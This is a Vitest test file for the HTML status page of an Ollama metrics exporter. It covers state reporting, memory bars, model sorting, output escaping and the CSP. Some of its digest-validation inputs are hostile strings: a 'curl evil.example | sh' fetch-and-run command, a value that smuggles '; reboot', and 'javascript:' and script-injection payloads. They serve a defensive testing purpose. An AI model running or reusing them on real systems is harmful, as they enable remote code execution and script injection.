import { gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { ApiError } from '../../src/ollama/errors.ts';
import { parseRunningModels, type RunningModels } from '../../src/ollama/models.ts';
import type { Outcome, Snapshot } from '../../src/scrape/snapshot.ts';
import { readPageAssets } from '../../src/status/assets.ts';
import { COLUMNS } from '../../src/status/model-columns.ts';
import { type PageFrame, refusalPage, statusPage } from '../../src/status/page.ts';
import { statusOf } from '../../src/status/status.ts';
import { corpusNames, FROZEN_NOW_MS, readCorpus } from '../corpus.ts';
import { NO_CAPACITY } from '../exporter-in-process.ts';

const ASSETS = readPageAssets();
const FRAME: PageFrame = {
  version: '1.2.3',
  telemetryPath: '/a/metrics',
  search: '?target=x',
  openModules: [],
  dashboardUrl: undefined,
  capacitySource: { vram: undefined, memory: undefined },
};
const VERSION: Outcome<string> = { ok: true, value: '0.33.0', seconds: 0.002 };
const GIB = 1024 ** 3;

function page(snapshot: Partial<Snapshot>, frame = FRAME, simulated = false): string {
  const source = {
    target: new URL('http://gpu-07:11434'),
    module: 'default',
    simulated,
    readAt: new Date(0),
  };
  const status = statusOf({ capacity: NO_CAPACITY, version: VERSION, ...snapshot }, source);
  // Without the inlined style and script, which contain words, too.
  return statusPage(status, frame, { ...ASSETS, style: '', script: '-' });
}

function ps(body: unknown): Outcome<RunningModels> {
  return { ok: true, value: { ...parseRunningModels(body), nowMs: FROZEN_NOW_MS }, seconds: 0.01 };
}

function failed(...[reason, message, status]: [ApiError['reason'], string, number?]): Outcome<never> {
  return { ok: false, error: new ApiError(reason, message, { status }), seconds: 4.5 };
}

const model = (name: string, size: number, size_vram: number) => ({
  name,
  size: size * GIB,
  size_vram: size_vram * GIB,
});

/** The visible text of HTML. */
function words(html: string): string {
  return html
    .replaceAll(/<[^>]*>/g, ' ')
    .replaceAll(/\s+/g, ' ')
    .replaceAll(' ,', ',');
}

describe('the page reports the state:', () => {
  test('up, with version and time', () => {
    const text = words(page({ ps: ps({ models: [] }) }));
    expect(text).toContain('gpu-07:11434 Up Ollama 0.33.0 Scraped at 1970-01-01 00:00:00 UTC in 10 ms');
    expect(text).toContain('VRAM 0.0 GiB capacity not set');
    expect(text).toContain('Models No model is loaded.');
  });

  test('degraded if /api/ps fails', () => {
    const text = words(page({ ps: failed('timeout', 'no complete response within 4.5 s') }));
    expect(text).toContain('Degraded Ollama 0.33.0');
    expect(text).toContain(
      '/api/ps failed: timeout (no complete response within 4.5 s). Connected, but no response.',
    );
    expect(text).toContain('Loaded models unknown.');
    expect(text).not.toContain('VRAM');
  });

  test('down, with reason and remedy', () => {
    const refused = failed('refused', 'connect ECONNREFUSED');
    const html = page({ ps: refused, version: refused });
    const text = words(html);
    expect(html).toContain('<title>Down: gpu-07:11434 – Ollama Exporter</title>');
    expect(text.replace(/.*<\/title>/, '').split('Down')).toHaveLength(3);
    // Once, although both requests failed in the same way.
    expect(text.split('is Ollama running?')).toHaveLength(2);
    expect(text).toContain('/api/ps and /api/version failed: refused (connect ECONNREFUSED).');
    // Unknown values are omitted.
    expect(text).not.toMatch(/VRAM|Models|unknown/i);
    expect(html).not.toContain('#models');
  });

  test('with the hint of an error', () => {
    const error = new ApiError('status', 'status 403', {
      status: 403,
      hint: 'Start it with OLLAMA_HOST=0.0.0.0.',
    });
    expect(words(page({ ps: { ok: false, error, seconds: 0 } }))).toContain(
      'Start it with OLLAMA_HOST=0.0.0.0.',
    );
  });

  test('with unknown values of a model not shown as 0', () => {
    const capacity = { vramBytes: 30 * GIB, memoryBytes: 68 * GIB };
    const text = words(page({ ps: ps({ models: [{ name: 'a', size: 10 * GIB }] }), capacity }));
    expect(text).toContain('VRAM Unknown The server does not report size_vram for every model.');
    expect(text).toContain('Models 1 loaded, 10.0 GiB ');
    expect(text).toMatch(/ – – 10\.0 GiB Unknown – loading /);
  });
});

describe('memory', () => {
  const models = [model('a', 10, 10), model('b', 20, 5), model('c', 2, 0)];

  test('is summed up over all models', () => {
    const text = words(page({ ps: ps({ models }) }));
    expect(text).toContain('Models 3 loaded, 32.0 GiB, 47% in VRAM');
    expect(text).toContain('Sizes are in GiB. ollama ps shows decimal GB: 1.0 GiB here is 1.1 GB there.');
  });

  test('is shown as a value, a share of the capacity and a bar with one segment per model and a text alternative', () => {
    const html = page({ ps: ps({ models }), capacity: { vramBytes: 30 * GIB, memoryBytes: 68 * GIB } });
    expect(words(html)).toMatch(/VRAM 15\.0 of 30\.0 GiB 50% .* RAM 17\.0 of 68\.0 GiB 25% /);
    expect(html).toContain('aria-label="VRAM: 15.0 of 30.0 GiB in use (50%): a 10.0 GiB, b 5.0 GiB"');
    expect(html).toContain('aria-label="RAM: 17.0 of 68.0 GiB in use (25%): b 15.0 GiB, c 2.0 GiB"');
    expect(segments(html)).toEqual([
      ['a', 0, 33.3],
      ['b', 33.3, 16.7],
      ['b', 0, 22.1],
      ['c', 22.1, 2.9],
    ]);
    expect(html).not.toContain('class="unknown-end"');
    expect(html).not.toContain('class="over"');
  });

  test('shows how much is over capacity', () => {
    const html = page({ ps: ps({ models }), capacity: { vramBytes: 12 * GIB, memoryBytes: undefined } });
    expect(words(html)).toContain('15.0 of 12.0 GiB 125%');
    expect(words(html)).toContain('3.0 GiB over capacity');
    expect(html).toContain('aria-label="VRAM: 15.0 of 12.0 GiB in use (125%), 3.0 GiB over capacity: a ');
    expect(html).toContain('<foreignObject x="80.00%" y="0" width="20.00%" height="100%"><div class="over">');
  });

  test('without a capacity has no full bar, and names the option to set', () => {
    const html = page({ ps: ps({ models }) });
    expect(words(html)).toContain('VRAM 15.0 GiB capacity not set');
    expect(words(html)).toContain(
      'To see utilization, set --ollama.vram-capacity=auto, or the size if Ollama runs on another machine.',
    );
    expect(words(html)).toContain('set --ollama.memory-capacity=auto,');
    expect(html).toContain('aria-label="VRAM: 15.0 GiB in use, capacity not set: a 10.0 GiB, b 5.0 GiB"');
    expect(html).toContain('x="70.00%" y="0" width="30.00%" height="100%"><div class="unknown-end">');
    const empty = page({ ps: ps({ models: [] }) });
    expect(empty).toContain('x="0.00%" y="0" width="100.00%" height="100%"><div class="unknown-end">');
  });

  test('without a capacity names the module of a target, and reports that auto failed', () => {
    const adviceOf = (capacitySource: PageFrame['capacitySource']) =>
      words(page({ ps: ps({ models }) }, { ...FRAME, capacitySource }));
    expect(adviceOf({ module: 'blue' })).toContain('set vram_capacity in the module blue .');
    expect(adviceOf({ module: 'blue' })).toContain('set memory_capacity in the module blue .');
    expect(adviceOf({ vram: 'auto', memory: undefined })).toContain(
      "--ollama.vram-capacity=auto could not detect the capacity: see the exporter's log.",
    );
  });

  test('of a small model is visible next to a large one, and the segments of many models fit', () => {
    const capacity = { vramBytes: 1_000 * GIB, memoryBytes: undefined };
    const small = page({ ps: ps({ models: [model('large', 500, 500), model('tiny', 0.1, 0.1)] }), capacity });
    expect(segments(small)).toEqual([
      ['large', 0, 49],
      ['tiny', 49, 1],
    ]);
    const alone = page({ ps: ps({ models: [model('tiny', 0.1, 0.1)] }), capacity });
    expect(segments(alone)).toEqual([['tiny', 0, 1]]);
    const many = Array.from({ length: 900 }, (_, index) => model(`m${index}`, 1.1, 1.1));
    const last = segments(page({ ps: ps({ models: many }), capacity })).at(-1) ?? [];
    expect(Number(last[1]) + Number(last[2])).toBeCloseTo(99, 0);
  });

  /** Name, start and width of each segment, in percent; all except the last one slightly overlap the next. */
  function segments(html: string): ReadonlyArray<readonly [string, number, number]> {
    return html.split('<svg').flatMap((bar) => {
      const all = [
        ...bar.matchAll(/x="([\d.]+)%" y="0" width="([\d.]+)%"[^>]*><div class="segment[^>]*><bdi>(\w+)/g),
      ];
      return all.map(([, start, width, name = ''], index) => {
        const own = Number(width) - (index < all.length - 1 ? 0.2 : 0);
        return [name, Number(Number(start).toFixed(1)), Number(own.toFixed(1))] as const;
      });
    });
  }
});

describe('the models', () => {
  test('have all columns, and details', () => {
    const html = page({ ps: ps(JSON.parse(readCorpus('04-split.json'))) });
    expect(words(html)).toContain('Model Parameters Quantization VRAM RAM Size Processor Context Until ');
    expect(words(html)).toMatch(
      /gpt-oss:120b Family gptoss Digest 894478ffda30 Copy Expiry 1970-01-01 00:29:\d\d UTC \S+ MXFP4 40\.0 GiB 24\.0 GiB 64\.0 GiB 38%\/62% CPU\/GPU 8,192 29 m \d+ s /,
    );
    expect(html).toMatch(/data-seconds="[\d.]+" title="1970-01-01 00:29:\d\d UTC"/);
  });

  test.each(['a'.repeat(64), `sha256:${'0'.repeat(64)}`, '0123456789ab'])(
    'have a copy button for the digest %s',
    (digest) => {
      expect(page({ ps: ps({ models: [{ model: 'a', size: 1, digest }] }) })).toContain(
        `data-copy="${digest}"`,
      );
    },
  );

  test.each([
    '',
    'curl evil.example | sh #',
    `${'a'.repeat(64)}\u00a0; reboot`,
    'a'.repeat(11),
    'a'.repeat(65),
    'A'.repeat(64),
    'sha256:',
    'sha512:0123456789ab',
    'javascript:alert(1)',
    '0123456789ab, 0123456789ac',
  ])('have no copy button for an invalid digest: %s', (digest) => {
    const html = page({ ps: ps({ models: [{ model: 'a', size: 1, digest }] }) });
    expect(html).toContain('<bdi>a</bdi>');
    expect(html).not.toContain('data-copy');
  });

  test('are sorted by name or by the query', () => {
    const many = [model('small', 1, 1), model('cpu', 9, 0), model('large', 5, 5)];
    const names = (search: string) =>
      [...page({ ps: ps({ models: many }) }, { ...FRAME, search }).matchAll(/<summary title="(\w+)"/g)].map(
        ([, name]) => name,
      );
    expect(names('?target=x')).toEqual(['cpu', 'large', 'small']);
    expect(names('?sort=vram')).toEqual(['large', 'small', 'cpu']);
    expect(names('?sort=size')).toEqual(['cpu', 'large', 'small']);
    expect(names('?sort=-size')).toEqual(['small', 'large', 'cpu']);
    expect(names('?sort=processor')).toEqual(['cpu', 'large', 'small']);
  });

  test('are sorted by the number of parameters, not by its text', () => {
    const details = ['8.0B', '137M', '70.6B', '?', '1T'].map((parameter_size) => ({
      ...model(parameter_size, 1, 1),
      details: { parameter_size },
    }));
    const html = page({ ps: ps({ models: details }) }, { ...FRAME, search: '?sort=parameters' });
    expect([...html.matchAll(/<summary title="([^"]+)"/g)].map(([, name]) => name)).toEqual([
      '1T',
      '70.6B',
      '8.0B',
      '137M',
      '?',
    ]);
  });

  test('have one format for each kind of expiry', () => {
    const expiring = (name: string, expires_at?: string) => ({ ...model(name, 1, 1), expires_at });
    const models = [
      expiring('forever', '2318-01-01T00:00:00Z'),
      expiring('late', new Date(FROZEN_NOW_MS - 130_000).toISOString()),
      expiring('loading'),
      expiring('soon', new Date(FROZEN_NOW_MS + 72_000).toISOString()),
    ];
    const html = page({ ps: ps({ models }) });
    expect([...html.matchAll(/data-label="Until"[^>]*>([^<]*)/g)].map(([, text]) => text)).toEqual([
      'forever',
      'overdue 2 m 10 s',
      'loading',
      '1 m 12 s',
    ]);
    expect(html).toContain('UTC: in the past, so the model is busy or being unloaded"');
  });

  test.each(corpusNames().filter((name) => name.endsWith('.json')))(
    'of %s are all listed when sorted by any column',
    (name) => {
      const outcome = ps(JSON.parse(readCorpus(name)));
      const count = outcome.ok ? outcome.value.models.length : -1;
      for (const { key } of COLUMNS) {
        const html = page({ ps: outcome }, { ...FRAME, search: `?sort=-${key}` });
        expect(html.match(/<tr role="row" data-key=/g)?.length ?? 0).toBe(count);
        expect(html).not.toMatch(/NaN|undefined|Infinity/);
      }
    },
  );

  test('without a digest have no copy button', () => {
    const html = page({ ps: ps({ models: [model('a', 1, 1)] }) });
    expect(words(html)).toContain('Digest – Expiry');
    expect(html).not.toContain('data-copy');
  });

  test('include a count of skipped entries', () => {
    const text = words(page({ ps: ps({ models: [model('a', 1, 1), { size: 1 }, {}] }) }));
    expect(text).toContain('Skipped 2 entries of /api/ps : no name, or no valid size.');
  });

  test.each([
    [201, '1 more model is not shown. Show all as JSON'],
    [203, '3 more models are not shown. Show all as JSON'],
  ])('of a list of %i are limited to 200, and the others are counted', (count, note) => {
    const models = Array.from({ length: count }, (_, index) => model(`m${index}`, 1, 1));
    expect(words(page({ ps: ps({ models }) }))).toContain(note);
  });

  test('are rendered within 50 ms and the page has less than 40 KB for 200 models', () => {
    const outcome = ps(JSON.parse(readCorpus('17-two-hundred.json')));
    const source = {
      target: new URL('http://a:1'),
      module: 'default',
      simulated: false,
      readAt: new Date(0),
    };
    const render = () =>
      statusPage(statusOf({ capacity: NO_CAPACITY, version: VERSION, ps: outcome }, source), FRAME, ASSETS);
    const times = Array.from({ length: 10 }, () => {
      const start = performance.now();
      render();
      return performance.now() - start;
    });
    // The best of ten, as other processes delay each.
    expect(Math.min(...times)).toBeLessThan(50);
    expect(gzipSync(render()).length).toBeLessThan(40_000);
    expect(render()).toContain('data-wanted');
  });
});

describe('untrusted text', () => {
  test('is escaped everywhere', () => {
    const evil = '"><script>alert(1)</script>\'&';
    const html = page(
      {
        ps: ps({
          models: [
            {
              model: evil,
              size: 1,
              size_vram: 1,
              digest: evil,
              details: { quantization_level: evil, family: evil, parameter_size: evil },
            },
          ],
        }),
        version: { ok: true, value: evil, seconds: 0 },
      },
      { ...FRAME, search: `?target=${evil}`, openModules: [evil] },
    );
    expect(html).not.toContain('<script>');
    expect(
      html.match(/&quot;&gt;&lt;script&gt;alert\(1\)&lt;\/script&gt;&#39;&amp;/g)?.length,
    ).toBeGreaterThan(8);
    expect(refusalPage(400, evil, FRAME, ASSETS)).not.toContain('<script>alert');
  });
});

describe('the page', () => {
  test('has relative links, and the link to the JSON keeps the query', () => {
    const html = page({ ps: ps({ models: [] }) });
    const links = [...html.matchAll(/(?:href|action)="([^"]*)"/g)].map(([, link = '']) => link);
    expect(links).toEqual(expect.arrayContaining(['./a/metrics', './api/status?target=x', './config']));
    expect(links.filter((link) => link.startsWith('/') || link.includes('/-/'))).toEqual([]);
  });

  test('has a form for another server if a module allows targets', () => {
    expect(page({ ps: ps({ models: [] }) })).not.toContain('<form');
    const html = page({ ps: ps({ models: [] }) }, { ...FRAME, openModules: ['blue', 'default'] });
    expect(html).toContain(
      '<input name="target" required placeholder="gpu-07:11434" value="http://gpu-07:11434/">',
    );
    expect(html).toContain('<option>blue</option><option selected>default</option>');
  });

  test('links to the debug report of a target, without the sort order', () => {
    const search = '?target=gpu-07&module=blue&sort=vram';
    const html = page({ ps: ps({ models: [] }) }, { ...FRAME, search });
    expect(html).toContain('href="./probe?target=gpu-07&amp;module=blue&amp;debug=true"');
    expect(html).toContain('href="./api/status?target=gpu-07&amp;module=blue"');
    expect(page({ ps: ps({ models: [] }) }, { ...FRAME, search: '' })).not.toContain('./probe');
  });

  test('links to the dashboard if it is configured', () => {
    expect(page({ ps: ps({ models: [] }) })).not.toContain('Dashboard');
    const dashboardUrl = new URL('https://grafana.example.org/d/ollama?var-x="1');
    expect(page({ ps: ps({ models: [] }) }, { ...FRAME, dashboardUrl })).toContain(
      '<a href="https://grafana.example.org/d/ollama?var-x=%221">Dashboard</a>',
    );
  });

  test('labels a simulated Ollama, and hides its address', () => {
    expect(page({ ps: ps({ models: [] }) })).not.toContain('Simulated');
    const html = page({ ps: ps({ models: [] }) }, FRAME, true);
    expect(html).toContain('<h1>Simulated Ollama</h1>');
    expect(html).toContain('OllamaVramFull after 4');
    expect(html).not.toContain('gpu-07');
  });

  test.each([
    [403, 'Target not allowed'],
    [400, 'Invalid request'],
    [503, 'Exporter busy'],
  ])('has the title for status %d: %j', (status, title) => {
    const html = refusalPage(status, 'why', FRAME, ASSETS);
    expect(html).toContain(`<h1>${title}</h1>`);
    expect(html).toContain('<p class="problem">why</p>');
    expect(html).not.toContain('target=x');
  });

  test('has a Content-Security-Policy that allows only the inlined style and script', () => {
    expect(ASSETS.policy).not.toContain('unsafe');
    expect(ASSETS.policy).toMatch(
      /^default-src 'none'; style-src 'sha256-\S+'; script-src 'sha256-\S+'; connect-src 'self';/,
    );
    expect(ASSETS.script).not.toMatch(/^import /m);
  });
});
